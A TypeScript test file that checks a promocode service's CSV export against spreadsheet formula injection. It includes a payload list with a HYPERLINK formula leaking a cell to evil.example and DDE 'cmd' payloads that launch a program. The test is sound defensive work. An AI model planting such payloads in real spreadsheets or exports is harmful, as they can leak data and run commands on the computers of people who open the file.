import { Readable } from "node:stream";
import csvParser from "csv-parser";
import { beforeAll, describe, expect, it } from "vitest";
import type { Allocation } from "../../shared/contract/allocations.ts";
import { exportColumns } from "../../shared/contract/exports.ts";
import type { ServiceClient } from "../support/service-client.ts";
import { sharedService } from "./bad-input-world.ts";
import { lines } from "./file-contents.ts";

/** What a spreadsheet would run when it stands at the beginning of a cell (owasp.org/www-community/attacks/CSV_Injection). */
const runs = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** As dangerous as a customer id, an identifier of a send and a code may be. Tabs and line breaks they cannot hold. */
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,2)",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!D2",
  '=","&A1',
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "==",
  "'=1+1",
  " =1+1",
  "a=1+1",
  '"=1+1"',
  "plain",
];
const codes = formulas.map((_, at) => `${"=+-@"[at % 4]}CODE-${at}`);

/** RFC 4180, written anew: what is quoted, and how. */
const cellOf = (text: string): string => (/[",\n\r]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

describe("formula in an export", () => {
  let client: ServiceClient;
  let promocodeId: string;
  const allocations: Allocation[] = [];
  beforeAll(async () => {
    client = sharedService();
    promocodeId = (await client.promocode()).promocodeId;
    await client.upload(promocodeId, lines(["code", ...codes]));
    await client.loadedFiles(promocodeId, 1, 250_000);
    for (const [at, customerId] of formulas.entries()) {
      const other = (step: number) => formulas[(at + step) % formulas.length]!;
      const { body } = await client.allocate(promocodeId, {
        customerId,
        occurenceId: other(1),
        seriesId: other(2),
        actionId: other(3),
      });
      allocations.push(body);
    }
  });

  const cellsOf = (allocation: Allocation): readonly string[] =>
    exportColumns.map((column) => allocation[column] ?? "");
  const rowsOf = async (text: string): Promise<readonly string[][]> =>
    (await Readable.from([text]).pipe(csvParser()).toArray()).map((row: Record<string, string>) =>
      exportColumns.map((column) => row[column] ?? ""),
    );

  it.for(formulas)("%j opens without harm when the export is to be safe", async (customerId) => {
    const { text } = await client.exportOf(`/v1/promocodes/${promocodeId}/exports`, { formulaSafe: true });

    const rows = await rowsOf(text);
    const allocation = allocations.find((each) => each.customerId === customerId)!;
    const expected = cellsOf(allocation).map((cell) => (runs.test(cell) ? `'${cell}` : cell));
    expect(rows).toContainEqual(expected);
    expect(rows.flat().filter((cell) => runs.test(cell))).toEqual([]);
  });

  it("stands there to the byte when the export is not to be safe", async () => {
    const { text } = await client.exportOf(`/v1/promocodes/${promocodeId}/exports`);

    const [header, ...rows] = text.trimEnd().split("\n");
    expect(header).toBe(exportColumns.join(","));
    expect(rows.sort()).toEqual(
      allocations.map((allocation) => cellsOf(allocation).map(cellOf).join(",")).sort(),
    );
  });

  it("stands in as many rows and columns, safe or not", async () => {
    const safe = await client.exportOf(`/v1/promocodes/${promocodeId}/exports`, { formulaSafe: true });
    const exact = await client.exportOf(`/v1/promocodes/${promocodeId}/exports`, { formulaSafe: false });

    expect([safe.record.rows, exact.record.rows]).toEqual([formulas.length, formulas.length]);
    expect(safe.text.split("\n")[0]).toBe(exportColumns.join(","));
  });

  it.for(["\t=1+1", "\r=1+1", "\n=1+1"])(
    "%j cannot become a customer, so no cell begins so",
    async (customerId) => {
      const answer = await client.allocate(promocodeId, { customerId });

      expect(answer.status).toBe(400);
    },
  );
});
